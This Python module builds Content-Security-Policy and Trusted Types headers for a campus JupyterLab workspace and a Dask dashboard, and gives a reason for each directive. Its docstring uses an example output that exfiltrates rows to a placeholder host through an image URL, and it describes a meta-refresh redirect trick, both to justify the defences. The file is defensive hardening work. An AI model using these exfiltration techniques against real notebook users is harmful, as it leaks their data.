"""The Content-Security-Policy of every answer of a workspace's server: the page talks only to the campus.

JupyterLab shows a kernel's HTML, images and scripts in the user's browser, which is
outside the sandbox and can reach the internet. Without a policy, an output such as
`<img src="https://elsewhere.example/?d=…">` or a script's `fetch()` would send rows
straight from the browser to any website, past the egress guard. This policy confines
everything the page loads, connects to, frames or submits to the campus origin.

The directives are data, in one place, each with the reason it is there. The lab's needs
were measured in Debian's chromium against JupyterLab 4.6 (the lab loads, runs a cell
and saves with exactly these sources; tests/hub/attacks/test_browser_egress.py checks it
on a real workspace), not assumed.

No directive governs navigation: a `<meta http-equiv="refresh">` in an HTML output would
take the tab, rows in the URL, to another site. So the policy also requires Trusted Types:
every HTML string the lab page renders then passes through the campus default policy
(static/trusted_types.js, loaded first by trusted_types.py), which removes <meta>, <base>
and <link>; if that script is missing, every sink throws (fails closed).

What the policy cannot do (docs/sandbox.md): stop a link the user clicks, a script that
did run in the page, or a user who turns the policy off in their own browser; a browser
without Trusted Types ignores that part of it.
"""

from __future__ import annotations

# directive -> (sources, why). Order is kept in the header.
WORKSPACE_DIRECTIVES: dict[str, tuple[str, str]] = {
    "default-src": ("'none'", "anything not named below (prefetch, manifests, …) is refused"),
    "script-src": (
        "'self' 'unsafe-eval'",
        "the lab's own bundles only; 'unsafe-eval' because the lab compiles its settings "
        "schemas with new Function() (ajv): without it plugins fail to activate. No "
        "'unsafe-inline': the scripts of HTML outputs (<script>, onerror=) are inline, so "
        "they never run; the lab's one inline script only strips ?token= from the URL",
    ),
    "style-src": (
        "'self' 'unsafe-inline'",
        "the lab and CodeMirror set inline styles; a stylesheet can only fetch through "
        "url(), which img-src and font-src confine",
    ),
    "img-src": ("'self' data: blob:", "plots in outputs are data: URIs; no image beacon to another site"),
    "media-src": ("'self' data: blob:", "IPython.display.Audio/Video embed data: URIs"),
    "font-src": ("'self'", "the lab's fonts are its own static files"),
    "connect-src": (
        "'self'",
        "fetch, XMLHttpRequest, WebSocket, EventSource and sendBeacon only to this origin: "
        "the server's API, kernel and terminal websockets, the dashboard's …/ws",
    ),
    "worker-src": ("'self'", "the lab's workers are its own scripts"),
    "frame-src": ("'none'", "the lab frames nothing here; an output cannot frame another site"),
    "child-src": ("'none'", "frames and workers for browsers without frame-src/worker-src"),
    "object-src": ("'none'", "no plugins (<object>, <embed>)"),
    "form-action": ("'self'", "a form in an output cannot submit rows to another site"),
    "base-uri": ("'self'", "a <base> in an output cannot point the page's relative URLs elsewhere"),
    "frame-ancestors": ("'none'", "no other page frames the workspace (JupyterHub's own default)"),
    "require-trusted-types-for": (
        "'script'",
        "every HTML and script sink (innerHTML, DOMParser, script.src, new Function…) takes "
        "only trusted values, so every HTML string the page renders (outputs, markdown, the "
        "lab's own) passes through the campus default policy (static/trusted_types.js, loaded "
        "first by trusted_types.py), which removes <meta>, <base> and <link>: a <meta "
        "http-equiv=refresh> in an output cannot navigate the tab to another site, which no "
        "other directive governs. If that script is missing every sink throws: fails closed",
    ),
    "trusted-types": (
        "default campus-parse fast-html dompurify",
        "the only policies that may be created (measured in chromium with JupyterLab 4.6): the "
        "campus default policy and the parser it uses; fast-html, the pass-through policy of "
        "the lab's UI toolkit (FAST elements), created at load: without it the lab does not "
        "start; dompurify, created when mermaid loads: a sanitiser whose output the lab takes "
        "as a string (never as TrustedHTML), so it still passes the default policy. No script "
        "of an output runs to use a policy, and any other name is refused",
    ),
}

# The Dask dashboard (Bokeh) builds its page with inline scripts carrying the document's
# JSON, so its pages need 'unsafe-inline'; connect-src and the rest stay the same, which
# also confines a page a user's own server answers on a dashboard path.
# Trusted Types stay off there: a page that runs inline scripts can navigate by script
# anyway, and Bokeh's pages do not load the default policy.
DASHBOARD_DIRECTIVES: dict[str, tuple[str, str]] = {
    **{name: rule for name, rule in WORKSPACE_DIRECTIVES.items() if "trusted-types" not in name},
    "script-src": ("'self' 'unsafe-inline'", "Bokeh's pages are inline scripts; nothing may leave anyway"),
    "sandbox": (
        "allow-scripts allow-same-origin",
        "a script on such a page (a user's own server may answer there) can open no window: "
        "a hub page it opened would be of the same origin without this policy; no forms either",
    ),
}


def render(directives: dict[str, tuple[str, str]]) -> str:
    """The header value of `directives`."""
    return "; ".join(f"{name} {sources}" for name, (sources, _why) in directives.items())


WORKSPACE_POLICY = render(WORKSPACE_DIRECTIVES)
DASHBOARD_POLICY = render(DASHBOARD_DIRECTIVES)
